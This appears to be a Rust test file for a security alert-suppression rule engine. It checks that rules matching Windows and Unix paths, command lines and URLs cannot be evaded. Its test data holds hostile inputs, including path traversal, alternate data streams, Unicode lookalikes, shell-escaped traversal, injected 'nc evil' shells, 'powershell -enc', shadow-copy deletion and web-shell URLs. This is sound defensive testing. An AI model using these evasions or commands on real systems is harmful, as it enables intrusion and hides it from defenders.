//! Values made to look like what a rule names, or unlike what its `not` excludes.

use super::*;

const IMAGE: &str = "data.win.eventdata.image";
const COMMAND_LINE: &str = "data.win.eventdata.commandLine";

/// Holds each rule to a value that it must hide and to those that it must not.
pub(super) fn hides_only(cases: &[(&str, &str, &str, &[&str])]) {
    for (path, matches, honest, hostile) in cases {
        assert!(hides_value(path, matches, honest), "{matches} on {honest}");
        for value in *hostile {
            assert!(!hides_value(path, matches, value), "{matches} on {value}");
        }
    }
}

#[test]
fn a_letter_that_only_folding_makes_another_is_another() {
    hides_only(&[
        (
            IMAGE,
            r"{ glob = 'C:\Windows\System32\svchost.exe' }",
            r"c:\WINDOWS\system32\SVCHOST.EXE",
            &["C:\\Window\u{17f}\\System32\\svchost.exe"],
        ),
        (
            IMAGE,
            r"{ prefix = 'C:\Backup\' }",
            r"c:\BACKUP\agent.exe",
            &["C:\\Bac\u{212a}up\\evil.exe"],
        ),
        (
            IMAGE,
            r"{ regex = 'C:\\(?:Backup|[k-m]s)\\[^s]+' }",
            r"c:\KS\agent.exe",
            &["C:\\\u{212a}S\\a", "C:\\k\u{17f}\\a", "C:\\ks\\S"],
        ),
        (
            "data.file",
            "{ regex = '/opt/(?i:backup)/.*' }",
            "/opt/BACKUP/a",
            &["/opt/bac\u{212a}up/a"],
        ),
        (
            IMAGE,
            r"{ in = ['C:\Backup\a.exe', 'C:\x'] }",
            r"c:\BACKUP\a.exe",
            &["C:\\Bac\u{212a}up\\a.exe"],
        ),
        (
            IMAGE,
            r"{ glob = 'C:\Benutzer\Müller\*' }",
            "C:\\BENUTZER\\MÜLLER\\\u{212a}\u{17f}.exe",
            &[r"C:\Benutzer\Muller\a.exe"],
        ),
    ]);
}

#[test]
fn a_web_address_behind_a_path_does_not_hide_where_that_leads() {
    hides_only(&[
        (
            COMMAND_LINE,
            r#"{ regex = '"C:\\Backup\\.*' }"#,
            r#""C:\Backup\agent.exe" http://x"#,
            &[
                r#""C:\Backup\..\Temp\evil.exe""#,
                r#""C:\Backup\..\Temp\evil.exe" http://x"#,
            ],
        ),
        (
            "full_log",
            r#"{ glob = '**"GET /health/** HTTP/1.1" 200 **' }"#,
            r#"10.0.0.1 "GET /health/live HTTP/1.1" 200 5 "http://r/" "ua""#,
            &[
                r#"10.0.0.1 "GET /health/..%5c..%5cadmin HTTP/1.1" 200 5 "http://r/" "ua""#,
                r#"10.0.0.1 "GET /health/..\..\admin HTTP/1.1" 200 5 "http://r/" "ua""#,
                r#"10.0.0.1 "GET /health/%2e%2e HTTP/1.1" 200 5 "-" "ua""#,
            ],
        ),
    ]);
}

#[test]
fn a_way_up_further_on_does_not_make_up_for_an_earlier_one() {
    hides_only(&[
        (
            "data.command",
            "{ regex = '/opt/backup/.*' }",
            "/opt/backup/bin/../y x",
            &["/opt/backup/../../tmp/evil x/../../opt/backup/y"],
        ),
        (
            "full_log",
            "{ prefix = 'type=EXECVE a0=/opt/backup/' }",
            "type=EXECVE a0=/opt/backup/bin/../y",
            &["type=EXECVE a0=/opt/backup/../../tmp/evil x/../../type=EXECVE a0=/opt/backup/y"],
        ),
        (
            "full_log",
            r#"{ glob = '* "GET /health/** HTTP/1.1" *' }"#,
            r#"10.0.0.1 "GET /health/a/../y HTTP/1.1" z"#,
            &[r#"10.0.0.1 "GET /health/../admin/x HTTP/1.1" "GET x/../../../../10.0.0.1 "GET /health/y HTTP/1.1" z"#],
        ),
    ]);
}

#[test]
fn a_way_up_leads_out_of_no_share() {
    hides_only(&[(
        COMMAND_LINE,
        r"{ glob = '\\nas\backup\**' }",
        r"\\nas\backup\bin\..\x.exe",
        &[
            r"\\evil\tools\..\..\nas\backup\x.exe",
            r"\\nas\public\..\backup\x.exe",
            r"\\?\UNC\evil\tools\..\..\nas\backup\x.exe",
        ],
    )]);
}

#[test]
fn contents_with_a_name_of_their_own_are_no_file_in_the_folder() {
    hides_only(&[
        (
            IMAGE,
            r"{ glob = 'C:\Windows\*.exe' }",
            r"C:\Windows\explorer.exe",
            &[r"C:\Windows\Tracing:evil.exe"],
        ),
        (
            IMAGE,
            r"{ prefix = 'C:\Program Files\' }",
            r"C:\Program Files\App\a b.exe",
            &[r"C:\Program Files\App A:evil.exe", r"C:\Program Files:evil.exe"],
        ),
        (
            IMAGE,
            r"{ regex = 'C:\\Windows\\[^\\]*\.exe' }",
            r"C:\Windows\explorer.exe",
            &[r"C:\Windows\Tracing:evil.exe"],
        ),
        (
            "data.win.eventdata.targetFilename",
            r"{ glob = 'C:\Users\**:Zone.Identifier' }",
            r"C:\Users\eve\a.exe:Zone.Identifier",
            &[r"C:\Users\eve\a.exe:b"],
        ),
        (
            "data.win.eventdata.targetObject",
            r"{ glob = 'HKLM\Software\App\*' }",
            r"HKLM\Software\App\a:b c",
            &[r"HKLM\Software\Other\a:b c"],
        ),
        (
            COMMAND_LINE,
            r"{ glob = 'C:\Windows\**' }",
            r"C:\Windows\System32\wevtutil.exe gl /f:xml C:\Windows\x http://a:80/b",
            &[
                r"C:\Windows\Tracing:evil.exe",
                r"C:\Windows\cmd.exe /c C:\Windows\Tracing:evil.exe",
            ],
        ),
        ("data.file", "{ glob = '/srv/*' }", "/srv/a:b", &["/srw/a:b"]),
    ]);
}

#[test]
fn a_star_does_not_go_on_to_another_command_or_from_a_path_to_its_question() {
    hides_only(&[
        (
            COMMAND_LINE,
            r"{ glob = 'cmd.exe /c C:\Scripts\*.bat' }",
            r"cmd.exe /c C:\Scripts\a b-1.bat",
            &[
                r"cmd.exe /c C:\Scripts\a.bat & evil.bat",
                r"cmd.exe /c C:\Scripts\a.bat&mshta http:x.bat",
                "cmd.exe /c C:\\Scripts\\a\r\nevil.bat",
            ],
        ),
        (
            COMMAND_LINE,
            r"{ glob = 'cmd.exe /c C:\Scripts\*' }",
            r"cmd.exe /c C:\Scripts\a.bat /x 100% (y) $z",
            &[
                r"cmd.exe /c C:\Scripts\a.bat & \evil",
                r"cmd.exe /c C:\Scripts\a.bat | powershell -enc AA==",
                r"cmd.exe /c C:\Scripts\$(evil)",
            ],
        ),
        (
            "data.command",
            "{ glob = '/opt/backup/*' }",
            "/opt/backup/run.sh --all $HOME",
            &[
                "/opt/backup/run.sh;nc evil 4444",
                "/opt/backup/x$(nc evil 1)",
                "/opt/backup/x`nc evil 1`",
            ],
        ),
        (
            "data.command",
            "{ glob = '/usr/bin/curl https://*.example.com/*' }",
            "/usr/bin/curl https://www.example.com/x?y=1 -o z",
            &[
                "/usr/bin/curl https://evil.test?.example.com/x",
                "/usr/bin/curl https://evil.test -o .example.com/x",
            ],
        ),
        (
            "data.url",
            "{ glob = '/static/*.css' }",
            "/static/a%20b-1.css",
            &[
                "/static/shell.php?cmd=id&x.css",
                "/static/shell.php%3fx.css",
                "/static/shell.php;x.css",
                "/static/shell.php%00.css",
                "/static/shell.php%253fx.css",
            ],
        ),
        (
            "data.url",
            "{ glob = '/health/*' }",
            "/health/live?x=1",
            &["/healthy/live?x=1"],
        ),
        (
            IMAGE,
            r"{ glob = 'C:\Program Files\*\a.exe' }",
            r"C:\Program Files\R&D; $(x)\a.exe",
            &[r"C:\Program Files\R&D\b.exe"],
        ),
    ]);
}

#[test]
fn a_way_up_behind_a_link_of_anybodys_does_not_lead_to_what_it_looks_like() {
    hides_only(&[
        (
            "data.command",
            "{ glob = '/opt/backup/*' }",
            "/opt/backup/bin/../agent",
            &[
                "/tmp/eve/l/../../../opt/backup/agent",
                "/opt/backup/l/../../backup/agent",
            ],
        ),
        (
            "data.file",
            "{ prefix = '/var/log/a' }",
            "/var/log/x/../app.log",
            &["/tmp/l/../../var/log/app.log"],
        ),
    ]);
}

#[test]
fn a_way_up_that_only_a_shell_sees_leads_out_too() {
    hides_only(&[
        (
            COMMAND_LINE,
            r"{ glob = 'cmd.exe /c C:\Scripts\**.bat' }",
            r"cmd.exe /c C:\Scripts\a..b\x...y.bat",
            &[
                r"cmd.exe /c C:\Scripts\..^\Temp\x.bat",
                r"cmd.exe /c C:\Scripts\.^.\Temp\x.bat",
                r#"cmd.exe /c C:\Scripts\".."\Temp\x.bat"#,
                r"cmd.exe /c C:\Scripts\..%PATH:~0,0%\Temp\x.bat",
            ],
        ),
        (
            COMMAND_LINE,
            r"{ regex = 'powershell -File C:\\Scripts\\.*' }",
            r"powershell -File C:\Scripts\a.ps1 '.' `.",
            &[
                r"powershell -File C:\Scripts\..`\Temp\x.ps1",
                r"powershell -File C:\Scripts\'..'\Temp\x.ps1",
                r"powershell -File C:\Scripts\.`.\Temp\x.ps1",
            ],
        ),
        (
            "data.command",
            "{ glob = '/bin/sh -c /opt/backup/**' }",
            "/bin/sh -c /opt/backup/\"run.sh\" x.",
            &[
                r#"/bin/sh -c /opt/backup/".."/".."/tmp/evil"#,
                r#"/bin/sh -c /opt/backup/"..""/"../tmp/evil"#,
                "/bin/sh -c /opt/backup/..$x/..$x/tmp/evil",
                "/bin/sh -c /opt/backup/{..,}/tmp/evil",
            ],
        ),
        (
            "full_log",
            "{ glob = '**GET /health/* HTTP/1.1**' }",
            "GET /health/live HTTP/1.1 x",
            &["GET /health/%2e%2e HTTP/1.1 x"],
        ),
    ]);
}

/// Holds each `not` to values that it must leave to the rule and to those that it must take from it.
pub(super) fn excludes_only(cases: &[(&str, &str, &[&str], &[&str])]) {
    for (path, matches, honest, hostile) in cases {
        let rule = format!("not = {{ \"{path}\" = {matches} }}");
        for value in *honest {
            assert!(hides(&rule, &alert_with(path, value)), "{rule} on {value}");
        }
        for value in *hostile {
            assert!(!hides(&rule, &alert_with(path, value)), "{rule} on {value}");
        }
    }
}

#[test]
fn a_not_excludes_in_letters_of_either_case_and_through_blanks_lines_and_quotes() {
    excludes_only(&[
        (
            IMAGE,
            "{ glob = '**powershell.exe' }",
            &[r"C:\Windows\System32\cmd.exe", r"C:\Program Files\A.B\pwsh.exe"],
            &[r"C:\Windows\PowerShell.exe", "C:\\Windows\\PowerShell.exe."],
        ),
        (
            "data.win.eventdata.targetFilename",
            r"{ regex = '.*\.(exe|dll)' }",
            &[r"C:\a\x.txt"],
            &[r"C:\a\x.EXE", r"C:\a\x.exe ", r"C:\a\x.txt:y.exe"],
        ),
        (
            COMMAND_LINE,
            "{ regex = '.*mimikatz.*' }",
            &["cmd /c x", "mimi cat"],
            &["x\nmimikatz y", "MimiKatz", "mimi\"\"katz", "mimi^katz", "mimi`katz"],
        ),
        (
            COMMAND_LINE,
            "{ glob = '**vssadmin delete shadows**' }",
            &["vssadmin list shadows", "vssadmin.exe  list  shadows /for=C:"],
            &[
                "vssadmin  delete  shadows",
                "vssadmin\tdelete\tshadows /all",
                r#"vssadmin "delete" shadows"#,
                "vssadmin delete^ shadows",
                "vssadmin ^  delete shadows",
            ],
        ),
        (
            "data.win.eventdata.targetUserName",
            r#""Administrator""#,
            &["eve", "Administrators"],
            &["ADMINISTRATOR", "administrator "],
        ),
        ("data.srcuser", r#""root""#, &["rooter"], &["root ", " Root"]),
        (
            "data.url",
            "{ prefix = '/admin' }",
            &["/shop", "https://h/shop?x=%20a%20b", "/caf%c3%a9%e0"],
            &["/ADMIN", " /admin", "https://h/admin", "https://h/Admin/x"],
        ),
    ]);
}

#[test]
fn a_not_excludes_with_either_separator_and_what_may_stand_for_its_folder() {
    excludes_only(&[
        (
            COMMAND_LINE,
            r"{ glob = '**\Users\**' }",
            &[
                r"cmd.exe /c C:\Tools\x.bat",
                r"C:\Windows\System32\schtasks.exe /query /fo csv",
                r#""C:\Program Files\A\a.exe" "#,
                r"rundll32.exe C:\Windows\x.dll,#1 /s",
                "x 100% of 50%",
            ],
            &[
                "cmd.exe /c C:/Users/x.exe",
                r#""C:/Users/eve/x.exe""#,
                r"powershell $env:TEMP\x.exe",
                r"powershell ${ENV:TEMP}\x.exe",
                r"cmd /c %TEMP%\x.exe",
                r"cmd /c %TEMP:~0,9%\x.exe",
                r"cmd /c \\localhost\c$\x",
            ],
        ),
        (
            IMAGE,
            r"{ glob = 'C:\Windows\**' }",
            &[r"C:\Tools\x.exe", r"\\nas\tools\x.exe", "C:/Tools/x.exe"],
            &[
                r"\\localhost\ADMIN$\Temp\x.exe",
                "//localhost/ADMIN$/Temp/x.exe",
                r"C:Windows\x.exe",
                r"C:x\y.exe",
            ],
        ),
        (
            IMAGE,
            r"{ glob = 'C:\Users\Public\**' }",
            &[r"C:\Users\eve\x.exe"],
            &[r"C:\Users\Public:x.exe", r"C:\Users\Public folder:x.exe"],
        ),
        (
            "data.command",
            "{ glob = '/home/**' }",
            &["/usr/bin/id -u", r"find / -name \*.c"],
            &["/HOME/x"],
        ),
    ]);
}
